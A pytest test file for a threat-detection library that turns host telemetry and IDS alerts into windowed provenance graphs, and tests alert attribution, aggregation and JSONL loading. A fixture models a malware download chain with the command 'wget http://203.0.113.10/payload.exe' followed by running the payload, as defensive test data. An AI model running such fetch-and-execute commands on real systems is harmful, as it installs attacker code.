"""Windowing, graph construction, aggregation, and alert fusion."""
import hashlib
import io
import json
import math
import pathlib

import pytest
from hypothesis import example, given, settings, strategies as st

from aptstage.errors import GraphConsistencyError, ValidationError
from aptstage.graphs import (
    NUM_RELATIONS,
    Edge,
    Node,
    NodeKind,
    Relation,
    build_graph,
    build_graph_sequence,
    dump_graphs_jsonl,
    external_endpoint,
    load_graphs_jsonl,
    WindowSlice,
    window_events,
)
from aptstage.telemetry import (
    EntityKind,
    EntityRef,
    EventKind,
    HostEvent,
    NetworkAlert,
    Protocol,
    dump_jsonl,
    parse_host_events,
    window_labels,
)
from aptstage.telemetry.records import BYTES_KINDS, SELF_EDGE_KINDS

import graph_reference
from graph_helpers import (
    campaign_graphs,
    campaign_scenario,
    dense_graphs,
    dense_scenario,
    event_table,
    make_graph,
)

DATA = pathlib.Path(__file__).parent / "data"

HOST = "10.1.1.45"


def proc(name):
    return EntityRef(EntityKind.PROCESS, f"{HOST}/{name}")


def fileref(key):
    return EntityRef(EntityKind.FILE, key)


def ipref(addr):
    return EntityRef(EntityKind.IP, addr)


def ev(ts, kind, subj, obj, **kw):
    return HostEvent(ts, HOST, kind, subj, obj, **kw)


def download_chain():
    """powershell spawns wget, wget fetches and drops payload, payload starts."""
    events = [
        ev(10.0, EventKind.PROCESS_CREATE, proc("powershell.exe"), proc("wget.exe"),
           command="wget http://203.0.113.10/payload.exe", user="victim"),
        ev(12.0, EventKind.NET_CONNECT, proc("wget.exe"), ipref("203.0.113.10"),
           user="victim"),
        ev(14.0, EventKind.FILE_CREATE, proc("wget.exe"),
           fileref(f"{HOST}/payload.exe"), user="victim"),
        ev(16.0, EventKind.PROCESS_CREATE, proc("payload.exe"), proc("payload.exe"),
           command="payload.exe", user="victim"),
    ]
    alert = NetworkAlert(13.0, "ET TROJAN Possible Malicious EXE Download", 0.8,
                         Protocol.TCP, "trojan-activity", HOST, 49152,
                         "203.0.113.10", 80)
    return events, [alert]


# ---------------------------------------------------------------- windowing


def test_window_boundaries_half_open():
    events = [ev(t, EventKind.FILE_READ, proc("a.exe"), fileref("f"), bytes=1)
              for t in (10.0, 290.0, 310.0)]
    windows = window_events(event_table(events), [])
    assert len(windows) == 2
    assert windows[0].start == 10.0
    assert [e.timestamp for e in windows[0].events] == [10.0, 290.0]
    assert [e.timestamp for e in windows[1].events] == [310.0]


def test_window_empty_streams():
    assert window_events(event_table([]), []) == []


def test_alert_only_window():
    events = [ev(1.0, EventKind.FILE_READ, proc("a.exe"), fileref("f"))]
    alert = NetworkAlert(305.0, "sig", 0.5, Protocol.TCP, "c", HOST, 1, "9.9.9.9", 2)
    windows = window_events(event_table(events), [alert])
    assert len(windows) == 2
    assert list(windows[1].events) == [] and windows[1].alerts == [alert]


def test_interior_empty_window_retained():
    events = [ev(0.0, EventKind.FILE_READ, proc("a.exe"), fileref("f")),
              ev(650.0, EventKind.FILE_READ, proc("a.exe"), fileref("f"))]
    windows = window_events(event_table(events), [])
    assert [w.index for w in windows] == [0, 1, 2]
    assert list(windows[1].events) == []
    g = build_graph(windows[1])
    assert g.nodes == () and g.edges == ()


_STAMP = st.one_of(st.floats(0.0, 6000.0), st.integers(0, 20).map(lambda i: 300.0 * i))


@settings(max_examples=200)
@given(st.lists(_STAMP, min_size=1, max_size=20), st.lists(_STAMP, max_size=5), st.data())
def test_labels_land_in_the_window_that_holds_their_record(ev_stamps, al_stamps, data):
    events = [ev(t, EventKind.FILE_READ, proc("a.exe"), fileref("f")) for t in ev_stamps]
    alerts = [NetworkAlert(t, "sig", 0.5, Protocol.TCP, "c", HOST, 1, "9.9.9.9", 2)
              for t in al_stamps]
    k = data.draw(st.integers(0, len(events) - 1))
    table = event_table(events)
    windows = window_events(table, alerts)
    labels = window_labels(table, alerts, [(ev_stamps[k], 3)])
    (home,) = {w.index for w in windows if any(e == events[k] for e in w.events)}
    assert labels == [3 if w.index == home else 0 for w in windows]


# ---------------------------------------------------------------- golden


def test_fusion_golden():
    events, alerts = download_chain()
    (window,) = window_events(event_table(events), alerts)
    graph = build_graph(window)
    golden = json.loads((DATA / "golden_fusion.json").read_text())
    assert graph.to_json_dict() == golden


def test_fusion_triggered_by_targets_wget():
    events, alerts = download_chain()
    graph = build_graph(window_events(event_table(events), alerts)[0])
    (tb,) = [e for e in graph.edges if e.relation is Relation.TRIGGERED_BY]
    assert graph.nodes[tb.src].kind is NodeKind.ALERT
    assert graph.nodes[tb.dst].key == f"{HOST}/wget.exe"


# ---------------------------------------------------------------- builder


def test_aggregation_counts_and_bytes():
    events = [
        ev(1.0, EventKind.NET_SEND, proc("a.exe"), ipref("9.9.9.9"), bytes=100),
        ev(2.0, EventKind.NET_SEND, proc("a.exe"), ipref("9.9.9.9"), bytes=50),
        ev(0.5, EventKind.NET_SEND, proc("a.exe"), ipref("9.9.9.9"), bytes=7),
    ]
    graph = build_graph(window_events(event_table(events), [])[0])
    (send,) = [e for e in graph.edges if e.relation is Relation.SEND]
    assert send.count == 3
    assert send.bytes == 157
    assert send.timestamp == 0.5


def test_aggregation_conservation():
    events, alerts = download_chain()
    events = events + [ev(20.0, EventKind.NET_CONNECT, proc("wget.exe"),
                          ipref("203.0.113.10"), user="victim")]
    graph = build_graph(window_events(event_table(events), alerts)[0])
    structural = {Relation.SELF_LOOP, Relation.TRIGGERED_BY}
    total = sum(e.count for e in graph.edges if e.relation not in structural)
    assert total == len(events)


def test_self_loop_totality():
    events, alerts = download_chain()
    graph = build_graph(window_events(event_table(events), alerts)[0])
    loops = [e for e in graph.edges if e.relation is Relation.SELF_LOOP]
    assert len(loops) == len(graph.nodes)
    assert all(e.src == e.dst for e in loops)


def test_alert_out_degree():
    events, alerts = download_chain()
    graph = build_graph(window_events(event_table(events), alerts)[0])
    for i, node in enumerate(graph.nodes):
        if node.kind is NodeKind.ALERT:
            out = [e for e in graph.edges
                   if e.src == i and e.relation is Relation.TRIGGERED_BY]
            assert len(out) >= 1


def test_determinism_and_input_order_independence():
    events, alerts = download_chain()
    g1 = build_graph(window_events(event_table(events), alerts)[0])
    # same records, different arrival order inside the window slice
    g2 = build_graph(window_events(event_table(events[::-1]), alerts)[0])
    assert g1.to_json() == g2.to_json()


def test_port_exact_match_preferred():
    # two processes on the same remote ip; only one used the alerted port
    events = [
        ev(1.0, EventKind.NET_CONNECT, proc("a.exe"), ipref("9.9.9.9"), user="u"),
        ev(2.0, EventKind.NET_CONNECT, proc("b.exe"), ipref("9.9.9.9:443"), user="u"),
    ]
    alert = NetworkAlert(5.0, "sig", 0.5, Protocol.TCP, "c", HOST, 1111, "9.9.9.9", 443)
    graph = build_graph(window_events(event_table(events), [alert])[0])
    (tb,) = [e for e in graph.edges if e.relation is Relation.TRIGGERED_BY]
    assert graph.nodes[tb.dst].key == f"{HOST}/b.exe"


def test_nearest_preceding_wins():
    events = [
        ev(1.0, EventKind.NET_CONNECT, proc("old.exe"), ipref("9.9.9.9"), user="u"),
        ev(4.0, EventKind.NET_CONNECT, proc("recent.exe"), ipref("9.9.9.9"), user="u"),
        ev(8.0, EventKind.NET_CONNECT, proc("future.exe"), ipref("9.9.9.9"), user="u"),
    ]
    alert = NetworkAlert(5.0, "sig", 0.5, Protocol.TCP, "c", HOST, 1111, "9.9.9.9", 80)
    graph = build_graph(window_events(event_table(events), [alert])[0])
    (tb,) = [e for e in graph.edges if e.relation is Relation.TRIGGERED_BY]
    assert graph.nodes[tb.dst].key == f"{HOST}/recent.exe"


def oracle_attribution(window):
    """alert key -> target key by the two-comprehension rule: the latest
    sighting at or before the alert among exact ip:port matches, else among
    loose ip matches, ties to the smallest process key; else a host."""
    net_kinds = (EventKind.NET_CONNECT, EventKind.NET_SEND, EventKind.NET_RECV)
    net_sightings = [(e.subject.key, e.object.key, e.timestamp)
                     for e in window.events if e.event_kind in net_kinds]
    host_keys = {e.host_id for e in window.events}
    out = {}
    for ordinal, al in enumerate(window.alerts):
        ext_ip, ext_port, _ = external_endpoint(al, host_keys)
        port_key = f"{ext_ip}:{ext_port}"
        exact = [s for s in net_sightings
                 if s[1] == port_key and s[2] <= al.timestamp]
        loose = [s for s in net_sightings
                 if (s[1] == ext_ip or s[1].startswith(ext_ip + ":")) and s[2] <= al.timestamp]
        pool = exact or loose
        if pool:
            best_ts = max(s[2] for s in pool)
            target = min(s[0] for s in pool if s[2] == best_ts)
        elif host_keys:
            target = al.src_ip if al.src_ip in host_keys else min(host_keys)
        else:
            target = ext_ip
        out[f"alert:{ordinal}:{al.signature}"] = target
    return out


# remote keys with shared prefixes: bare ips, ip:port, a port of another ip
# that starts with the same digits, and a key with two colons
REMOTES = ("9.9.9.9", "9.9.9.9:80", "9.9.9.9:443", "9.9.9.99:80", "9.9.9.9:80:1", "8.8.8.8:53")
HOSTS = (HOST, "10.1.1.46")
net_event = st.builds(
    lambda ts, host, kind, name, remote: HostEvent(
        ts, host, kind, EntityRef(EntityKind.PROCESS, f"{host}/{name}"),
        EntityRef(EntityKind.SOCKET if ":" in remote else EntityKind.IP, remote)),
    st.sampled_from((1.0, 2.0)), st.sampled_from(HOSTS),
    st.sampled_from((EventKind.NET_CONNECT, EventKind.NET_SEND, EventKind.NET_RECV)),
    st.sampled_from(("a.exe", "b.exe")), st.sampled_from(REMOTES))
file_event = st.builds(lambda ts: ev(ts, EventKind.FILE_READ, proc("r.exe"), fileref("f")),
                       st.sampled_from((1.0, 4.0)))
# source HOST or an unmonitored ip sends to `ext`; "in": `ext` sends to HOST
alert = st.builds(
    lambda ts, ips, ext, port: NetworkAlert(ts, "sig", 0.5, Protocol.TCP, "c",
                                            *((ips, 1111, ext, port) if ips != "in"
                                              else (ext, port, HOST, 1111))),
    st.sampled_from((0.5, 1.5, 2.5)), st.sampled_from((HOST, "10.9.9.9", "in")),
    st.sampled_from(("9.9.9.9", "9.9.9.99", "7.7.7.7", "9.9.9.9:80")),
    st.sampled_from((80, 443)))


@settings(max_examples=300)
@given(st.lists(st.one_of(net_event, net_event, file_event), min_size=6, max_size=16),
       st.lists(alert, min_size=1, max_size=4))
def test_alert_attribution_matches_two_comprehension_oracle(events, alerts):
    window = WindowSlice(0, 0.0, event_table(events), alerts)
    graph = build_graph(window)
    got = {graph.nodes[e.src].key: graph.nodes[e.dst].key
           for e in graph.edges if e.relation is Relation.TRIGGERED_BY}
    assert got == oracle_attribution(window)


# Small pools, so that draws repeat: a key under several entity kinds (the
# host key also as an ip), keys shaped like alert keys, timestamp ties,
# window edges and empty interior windows (nothing in 600..1500).
_KEYS = ("p", "q", "f", "alert:0:sig", "alert:0:sig'", HOST, "9.9.9.9", "9.9.9.9:80")
_TIMES = (0.0, 1.0, 1.0, 2.5, 299.9, 300.0, 450.0, 1500.0)


@st.composite
def any_event(draw):
    kind = draw(st.sampled_from(list(EventKind)))
    subj = EntityRef(draw(st.sampled_from(list(EntityKind))), draw(st.sampled_from(_KEYS)))
    obj = EntityRef(draw(st.sampled_from(list(EntityKind))), draw(st.sampled_from(_KEYS)))
    if subj == obj and kind not in SELF_EDGE_KINDS:
        obj = EntityRef(obj.kind, obj.key + "#")
    nbytes = draw(st.one_of(st.none(), st.integers(0, 10**6))) if kind in BYTES_KINDS else None
    return HostEvent(draw(st.sampled_from(_TIMES)), draw(st.sampled_from(HOSTS)), kind, subj, obj,
                     command=draw(st.sampled_from((None, "a", "b"))),
                     user=draw(st.sampled_from((None, "u", "v"))), bytes=nbytes)


any_alert = st.builds(
    lambda ts, src, dst, port: NetworkAlert(ts, "sig", 0.5, Protocol.TCP, "c", src, 1111, dst, port),
    st.sampled_from(_TIMES), st.sampled_from(HOSTS + ("7.7.7.7",)),
    st.sampled_from(HOSTS + ("9.9.9.9", "7.7.7.7")), st.sampled_from((80, 443)))


def _reference_graph_text(events, alerts):
    return [graph_reference.build_graph(w).to_json()
            for w in graph_reference.window_events(events, alerts)]


@settings(max_examples=300)
@given(st.lists(any_event(), max_size=14), st.lists(any_alert, max_size=4))
@example(  # every case at once, with windows 1..4 empty
    [ev(1.0, EventKind.FILE_CREATE, proc("p.exe"), fileref(f"{HOST}/p.exe")),
     ev(1.0, EventKind.PROCESS_CREATE, proc("p.exe"), proc("p.exe"), command="p.exe"),
     ev(2.0, EventKind.NET_SEND, proc("p.exe"), ipref("9.9.9.9:80")),
     ev(2.0, EventKind.NET_SEND, proc("p.exe"), ipref("9.9.9.9:80"), bytes=5),
     ev(3.0, EventKind.NET_SEND, proc("p.exe"), ipref("9.9.9.9:80"), bytes=7),
     ev(4.0, EventKind.FILE_READ, proc("r.exe"), fileref("alert:0:sig")),
     ev(1500.0, EventKind.FILE_READ, proc("r.exe"), fileref("f"))],
    [NetworkAlert(2.5, "sig", 0.5, Protocol.TCP, "c", HOST, 1111, "9.9.9.9", 80),
     NetworkAlert(0.5, "sig", 0.5, Protocol.TCP, "c", HOST, 1111, "7.7.7.7", 443)])
def test_columnar_builder_matches_row_wise_reference(events, alerts):
    expected = _reference_graph_text(events, alerts)
    table = event_table(events)
    assert [build_graph(w).to_json() for w in window_events(table, alerts)] == expected
    buf = io.StringIO()
    dump_jsonl(table, buf)
    parsed = parse_host_events(buf.getvalue())
    assert [build_graph(w).to_json() for w in window_events(parsed, alerts)] == expected


def test_unmatched_alert_falls_back_to_host():
    events = [ev(1.0, EventKind.FILE_READ, proc("a.exe"), fileref("f"))]
    alert = NetworkAlert(3.0, "sig", 0.5, Protocol.UDP, "c", HOST, 1111, "9.9.9.9", 53)
    graph = build_graph(window_events(event_table(events), [alert])[0])
    (tb,) = [e for e in graph.edges if e.relation is Relation.TRIGGERED_BY]
    assert graph.nodes[tb.dst].kind is NodeKind.HOST
    assert graph.nodes[tb.dst].key == HOST


def test_spawn_self_becomes_exec():
    events = [ev(1.0, EventKind.PROCESS_CREATE, proc("p.exe"), proc("p.exe"))]
    graph = build_graph(window_events(event_table(events), [])[0])
    rels = {e.relation for e in graph.edges}
    assert Relation.EXEC in rels and Relation.SPAWN not in rels


def test_kind_precedence_merges_file_into_process():
    events, alerts = download_chain()
    graph = build_graph(window_events(event_table(events), alerts)[0])
    payload = [n for n in graph.nodes if n.key == f"{HOST}/payload.exe"]
    assert len(payload) == 1 and payload[0].kind is NodeKind.PROCESS


def test_canonical_ordering():
    events, alerts = download_chain()
    graph = build_graph(window_events(event_table(events), alerts)[0])
    kind_order = list(NodeKind)
    keys = [(kind_order.index(n.kind), n.key) for n in graph.nodes]
    assert keys == sorted(keys)
    rel_order = list(Relation)
    etriples = [(e.src, rel_order.index(e.relation), e.dst) for e in graph.edges]
    assert etriples == sorted(etriples)


def test_event_outside_window_rejected():
    events = [ev(1.0, EventKind.FILE_READ, proc("a.exe"), fileref("f"))]
    window = window_events(event_table(events), [])[0]
    bad = list(window.events) + [ev(999.0, EventKind.FILE_READ, proc("a.exe"), fileref("f"))]
    with pytest.raises(ValidationError):
        build_graph(type(window)(window.index, window.start, event_table(bad), window.alerts))


def test_graph_validate_catches_bad_edges():
    node = Node(NodeKind.PROCESS, "p", {})
    with pytest.raises(GraphConsistencyError):
        make_graph(0, 0.0, (node,),
                   (Edge(Relation.READ, 0, 5, 1.0),)).validate()
    with pytest.raises(GraphConsistencyError):
        make_graph(0, 0.0, (node,),
                   (Edge(Relation.TRIGGERED_BY, 0, 0, 1.0),)).validate()
    with pytest.raises(GraphConsistencyError):
        make_graph(0, 0.0, (node, Node(NodeKind.PROCESS, "p", {})), ()).validate()
    with pytest.raises(GraphConsistencyError, match="bytes"):
        make_graph(0, 0.0, (node,),
                   (Edge(Relation.READ, 0, 0, 1.0, bytes=-5),)).validate()


_P, _A = Node(NodeKind.PROCESS, "p", {}), Node(NodeKind.ALERT, "a", {})
# (nodes, edges, the message `validate` gave when it looped over Edge objects)
_INVALID_GRAPHS = {
    "dst-out-of-range": ((_P,), [Edge(Relation.READ, 0, 5, 1.0)],
                         "edge endpoint out of range: 0->5 with 1 nodes"),
    "negative-src": ((_P,), [Edge(Relation.READ, -1, 0, 1.0)],
                     "edge endpoint out of range: -1->0 with 1 nodes"),
    "zero-count": ((_P,), [Edge(Relation.READ, 0, 0, 1.0, count=0)], "edge count must be >= 1"),
    "negative-bytes": ((_P,), [Edge(Relation.READ, 0, 0, 1.0, bytes=-5)],
                       "edge bytes must be non-negative: -5"),
    "at-window-end": ((_P,), [Edge(Relation.READ, 0, 0, 300.0)],
                      "edge timestamp 300.0 outside [0.0, 300.0)"),
    "before-window": ((_P,), [Edge(Relation.READ, 0, 0, -0.5)],
                      "edge timestamp -0.5 outside [0.0, 300.0)"),
    "nan-timestamp": ((_P,), [Edge(Relation.READ, 0, 0, math.nan)],
                      "edge timestamp nan outside [0.0, 300.0)"),
    "triggered-by-from-process": ((_A, _P), [Edge(Relation.TRIGGERED_BY, 1, 0, 1.0)],
                                  "triggered_by edge must originate at an alert node"),
    "triggered-by-out-of-range": ((_A,), [Edge(Relation.TRIGGERED_BY, 3, 0, 1.0)],
                                  "edge endpoint out of range: 3->0 with 1 nodes"),
    "duplicate-keys": ((_P, _P), [], "duplicate node keys"),
}


@pytest.mark.parametrize("case", sorted(_INVALID_GRAPHS))
def test_validate_messages(case):
    nodes, edges, message = _INVALID_GRAPHS[case]
    valid = [Edge(Relation.READ, 0, 0, 2.0, bytes=0, count=2), Edge(Relation.SELF_LOOP, 0, 0, 0.0)]
    with pytest.raises(GraphConsistencyError) as ei:
        make_graph(0, 0.0, nodes, valid + edges).validate()
    assert str(ei.value) == message
    make_graph(0, 0.0, (_A, _P), valid + [Edge(Relation.TRIGGERED_BY, 0, 1, 299.5)]).validate()


def _graph_line(edit):
    events, alerts = download_chain()
    doc = build_graph(window_events(event_table(events), alerts)[0]).to_json_dict()
    edit(doc)
    return json.dumps(doc)


# a graphs.jsonl line and what the loader's error names
_MALFORMED_LINES = {
    "broken-json": (lambda: _graph_line(lambda d: None)[:-3], "JSONDecodeError"),
    "not-an-object": (lambda: "[1, 2]", "TypeError"),
    "unknown-relation": (lambda: _graph_line(lambda d: d["edges"][0].update(relation="bogus")),
                         "'bogus'"),
    "unknown-node-kind": (lambda: _graph_line(lambda d: d["nodes"][0].update(kind="daemon")),
                          "'daemon'"),
    "unhashable-node-kind": (lambda: _graph_line(lambda d: d["nodes"][0].update(kind=[])),
                             "unhashable"),
    "missing-edge-field": (lambda: _graph_line(lambda d: d["edges"][0].pop("dst")),
                           "missing required field: dst"),
    "missing-edges": (lambda: _graph_line(lambda d: d.pop("edges")), "'edges'"),
    "non-numeric-src": (lambda: _graph_line(lambda d: d["edges"][0].update(src="a")),
                        "src must be an integer: 'a'"),
    # edge fields: the JSON types build_graph writes, none coerced
    "fractional-src": (lambda: _graph_line(lambda d: d["edges"][0].update(src=0.9)),
                       "src must be an integer: 0.9"),
    "boolean-count": (lambda: _graph_line(lambda d: d["edges"][0].update(count=True)),
                      "count must be an integer: True"),
    "timestamp-text": (lambda: _graph_line(lambda d: d["edges"][0].update(timestamp="10.5")),
                       "timestamp must be a number: '10.5'"),
    "bytes-text": (lambda: _graph_line(lambda d: d["edges"][0].update(bytes="10")),
                   "bytes must be a number or null: '10'"),
    "missing-count": (lambda: _graph_line(lambda d: d["edges"][0].pop("count")),
                      "missing required field: count"),
    "count-beyond-int64": (lambda: _graph_line(lambda d: d["edges"][0].update(count=2**70)),
                           "OverflowError"),
    "negative-bytes": (lambda: _graph_line(lambda d: d["edges"][0].update(bytes=-5)),
                       "edge bytes must be non-negative: -5"),
    # node attributes: what featurization reads, with the types build_graph writes
    "alert-severity-text": (lambda: _graph_line(lambda d: d["nodes"][5]["attrs"].update(severity="high")),
                            "severity must be a number: 'high'"),
    "alert-severity-above-1": (lambda: _graph_line(lambda d: d["nodes"][5]["attrs"].update(severity=1.5)),
                               "severity out of [0,1]: 1.5"),
    "alert-port-beyond-range": (lambda: _graph_line(lambda d: d["nodes"][5]["attrs"].update(
        external_port=70000)), "external_port out of [0,65535]: 70000"),
    "alert-outbound-number": (lambda: _graph_line(lambda d: d["nodes"][5]["attrs"].update(outbound=1)),
                              "outbound must be a bool: 1"),
    "alert-without-category": (lambda: _graph_line(lambda d: d["nodes"][5]["attrs"].pop("category")),
                               "missing required field: category"),
    "alert-unknown-protocol": (lambda: _graph_line(lambda d: d["nodes"][5]["attrs"].update(
        protocol="carrier-pigeon")), "unknown protocol: 'carrier-pigeon'"),
    "process-without-first-ts": (lambda: _graph_line(lambda d: d["nodes"][1]["attrs"].pop("first_ts")),
                                 "missing required field: first_ts"),
    "first-ts-text": (lambda: _graph_line(lambda d: d["nodes"][3]["attrs"].update(first_ts="10")),
                      "first_ts must be a number: '10'"),
    "first-ts-nan": (lambda: _graph_line(lambda d: d["nodes"][4]["attrs"].update(first_ts=float("nan"))),
                     "first_ts must be finite: nan"),
    "first-ts-outside-window": (lambda: _graph_line(lambda d: d["nodes"][3]["attrs"].update(first_ts=1e9)),
                                "first_ts 1000000000.0 outside [10.0, 310.0)"),
    "commands-a-string": (lambda: _graph_line(lambda d: d["nodes"][0]["attrs"].update(commands="payload.exe")),
                          "commands must be a list of strings: 'payload.exe'"),
    "users-holding-a-number": (lambda: _graph_line(lambda d: d["nodes"][2]["attrs"].update(users=["a", 7])),
                               "users must be a list of strings: 7"),
    "key-a-number": (lambda: _graph_line(lambda d: d["nodes"][3].update(key=7)), "key must be a string: 7"),
    "window-index-fractional": (lambda: _graph_line(lambda d: d.update(window_index=2.5)),
                                "window_index must be an integer: 2.5"),
    "window-start-text": (lambda: _graph_line(lambda d: d.update(window_start="10")),
                          "window_start must be a number: '10'"),
}


@pytest.mark.parametrize("case", sorted(_MALFORMED_LINES))
def test_load_graphs_jsonl_names_the_bad_line(case):
    make_line, why = _MALFORMED_LINES[case]
    good = _graph_line(lambda d: None)
    with pytest.raises(GraphConsistencyError, match=r"^line 3: ") as ei:
        load_graphs_jsonl(io.StringIO(f"{good}\n\n{make_line()}\n{good}\n"))
    assert why in str(ei.value)


def test_jsonl_roundtrip():
    events, alerts = download_chain()
    graphs = build_graph_sequence(event_table(events), alerts)
    buf = io.StringIO()
    dump_graphs_jsonl(graphs, buf)
    buf.seek(0)
    back = load_graphs_jsonl(buf)
    assert [g.to_json() for g in back] == [g.to_json() for g in graphs]


# sha256 of `dump_graphs_jsonl` over each corpus; the JSON text is pure
# Python, so the pins hold across NumPy versions
GRAPHS_JSONL_SHA256 = {
    "campaign": "10fe502d2e6a86f8a5cae7b76918ed485230ace1b54b4c21112dc598c8a457f6",
    "dense": "6488c69060acb195e2abba7e3b9b68884223cb0dc0910bcd663e4724e5392bc3",
}


@pytest.mark.parametrize("corpus", sorted(GRAPHS_JSONL_SHA256))
def test_graphs_jsonl_bytes_pinned(corpus):
    graphs = campaign_graphs(seed=3, windows=12) if corpus == "campaign" else dense_graphs()
    buf = io.StringIO()
    dump_graphs_jsonl(graphs, buf)
    text = buf.getvalue()
    assert hashlib.sha256(text.encode("utf-8")).hexdigest() == GRAPHS_JSONL_SHA256[corpus]
    again = io.StringIO()
    dump_graphs_jsonl(load_graphs_jsonl(io.StringIO(text)), again)
    assert again.getvalue() == text


# sha256 of `dump_jsonl` over each corpus's generated events and alerts
TELEMETRY_JSONL_SHA256 = {
    "campaign": ("805c6005b6379511c1a2dc42259e4360fa226604663a1bfa35468c6f8ea36dc4",
                 "65eddcd80fb32e3a546e3b7b6bae74e6f9c363ff95b9b19b0fdd1144c79a278b"),
    "dense": ("93306d84c2398be4d2e1cf8c384edd3be43fac4a83d362c2308459f4bb193af2",
              "5553aa539d497af54bcc2f8c0ed7aa1c79da1e5a1fe9f5fda293b0e0e14f3ffc"),
}


@pytest.mark.parametrize("corpus", sorted(TELEMETRY_JSONL_SHA256))
def test_generated_telemetry_jsonl_bytes_pinned(corpus):
    events, alerts, _ = campaign_scenario(seed=3, windows=12) if corpus == "campaign" else dense_scenario()
    digests = []
    for records in (events, alerts):
        buf = io.StringIO()
        dump_jsonl(records, buf)
        digests.append(hashlib.sha256(buf.getvalue().encode("utf-8")).hexdigest())
    assert tuple(digests) == TELEMETRY_JSONL_SHA256[corpus]


def test_jsonl_roundtrip_keeps_missing_bytes_apart_from_zero():
    nodes = (Node(NodeKind.PROCESS, "p", {"first_ts": 600.0}), Node(NodeKind.FILE, "f", {"first_ts": 600.0}))
    g = make_graph(2, 600.0, nodes, (Edge(Relation.READ, 0, 1, 601.0, bytes=None, count=3),
                                     Edge(Relation.WRITE, 0, 1, 602.5, bytes=0),
                                     Edge(Relation.SEND, 0, 1, 603.0, bytes=2**40)))
    (back,) = load_graphs_jsonl(io.StringIO(g.to_json() + "\n"))
    assert back.to_json() == g.to_json()
    assert [(e.bytes, e.count) for e in back.edges] == [(None, 3), (0, 1), (2**40, 1)]
    assert [e["bytes"] for e in json.loads(back.to_json())["edges"]] == [None, 0, 2**40]
    # a fractional count is truncated toward zero, as int() does
    doc = g.to_json_dict()
    doc["edges"][1]["bytes"], doc["edges"][2]["bytes"] = 10.7, -0.5
    (back,) = load_graphs_jsonl(io.StringIO(json.dumps(doc) + "\n"))
    assert [e.bytes for e in back.edges] == [None, 10, 0]


def test_relation_count_stable():
    assert NUM_RELATIONS == 10
